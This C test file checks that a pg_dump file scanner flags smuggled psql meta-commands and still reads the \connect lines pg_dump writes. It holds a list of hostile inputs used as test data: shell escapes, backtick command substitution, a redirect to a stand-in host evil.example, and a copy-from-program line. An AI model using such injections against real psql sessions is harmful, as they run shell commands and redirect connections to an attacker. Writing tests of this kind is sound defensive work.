/* SPDX-License-Identifier: PostgreSQL */
/* What the scan must not let pass, and what it must not judge. */
#include "dump/scan.h"
#include "lib/bytes.h"

#include <check.h>

#include <string.h>

Suite *suite_dump_scan_refusals(void);

static bool scan(struct arena *a, struct slice sql, struct dump_facts *facts, struct err *e)
{
    CLEANUP(source_cleanup) struct source *in = source_mem(a, sql.p, sql.n);
    return dump_scan(&(struct scan){.arena = a, .in = in}, facts, e);
}

/* psql would act on whatever stands behind the name. */
static const char *const hostile[] = {
    "\\connect shop \\! touch /tmp/pwned",
    "\\connect shop postgres evil.example",
    "\\connect `touch /tmp/pwned`",
    "\\connect \"`id`\" `touch /tmp/pwned`",
    "\\connect -reuse-previous=on \"dbname='x' host=evil.example\"",
    "\\connect -reuse-previous=on \"host=evil.example\"",
    "\\connect -reuse-previous=on shop",
    "\\connect 'shop'",
    "\\connect :name",
    "\\connect \"dbname\\\" \\! id",
    "\\connect",
    "\\! id",
    "\\copy t from program 'id'",
};

START_TEST(test_a_connect_with_anything_behind_the_name_is_a_meta_command)
{
    CLEANUP(arena_cleanup) struct arena *a = arena_new();
    struct dump_facts facts;
    struct err e = {0};
    const char *sql = arena_printf(a, "%s\nSELECT 1;\n", hostile[_i]);
    ck_assert(scan(a, slice_of(sql), &facts, &e));
    ck_assert_uint_eq(facts.n_problems, 1);
    const struct problem *p = vec_at(&facts.problems, 0);
    ck_assert_str_eq(p->code, "META_COMMAND");
}
END_TEST

static const struct {
    const char *line, *database;
} harmless[] = {
    {"\\connect shop", "shop"},
    {"\\connect \"My \"\"Shop\"\"`\"", "My \"Shop\"`"},
    {"\\connect -reuse-previous=on \"dbname='my shop'\"", "my shop"},
    {"\\connect -reuse-previous=on \"dbname='o\\'brien \\\\ co'\"", "o'brien \\ co"},
};

START_TEST(test_the_connects_that_pg_dump_writes_are_read)
{
    CLEANUP(arena_cleanup) struct arena *a = arena_new();
    struct dump_facts facts;
    struct err e = {0};
    const char *sql = arena_printf(a, "%s\nSELECT 1;\n", harmless[_i].line);
    ck_assert(scan(a, slice_of(sql), &facts, &e));
    ck_assert_uint_eq(facts.n_problems, 0);
    ck_assert_str_eq(facts.database, harmless[_i].database);
}
END_TEST

Suite *suite_dump_scan_refusals(void)
{
    Suite *s = suite_create("dump_scan_refusals");
    TCase *t = tcase_create("refusals");
    tcase_add_loop_test(t, test_a_connect_with_anything_behind_the_name_is_a_meta_command, 0,
                        (int)COUNT_OF(hostile));
    tcase_add_loop_test(t, test_the_connects_that_pg_dump_writes_are_read, 0,
                        (int)COUNT_OF(harmless));
    suite_add_tcase(s, t);
    return s;
}
